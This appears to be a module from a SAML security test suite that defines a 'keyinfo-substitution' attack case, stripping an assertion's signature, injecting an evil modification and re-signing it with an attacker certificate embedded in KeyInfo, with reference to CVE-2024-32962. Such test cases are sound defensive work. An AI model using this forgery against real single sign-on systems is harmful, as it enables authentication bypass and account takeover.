/**
 * KeyInfo certificate substitution: the evil assertion is signed with the attacker's key and
 * carries the attacker's certificate in ds:KeyInfo, for a relying party that verifies with
 * whatever key the token names instead of the key the tenant registered.
 * @see CVE-2024-32962 (xml-crypto: trusting the embedded KeyInfo certificate by default);
 *   CompassSecurity/SAMLRaider README ("certificate cloning", re-sign with a self-signed certificate)
 */
import { applyEvil, dropSignature, readSigned, write } from './edit.ts';
import type { SamlAttack } from './types.ts';

export const KEYINFO_SUBSTITUTION: SamlAttack = {
  name: 'keyinfo-substitution',
  fixture: 'keyinfo-substitution-attacker-key',
  summary:
    'the evil assertion re-signed with an attacker key whose certificate is embedded in KeyInfo',
  source: 'CVE-2024-32962 (xml-crypto trusted KeyInfo); SAMLRaider certificate cloning',
  apply: ({ signed, evil, tools }) => {
    const s = readSigned(signed);
    applyEvil(dropSignature(s.assertion), evil);
    return tools.signAsAttacker(write(s.doc));
  },
};
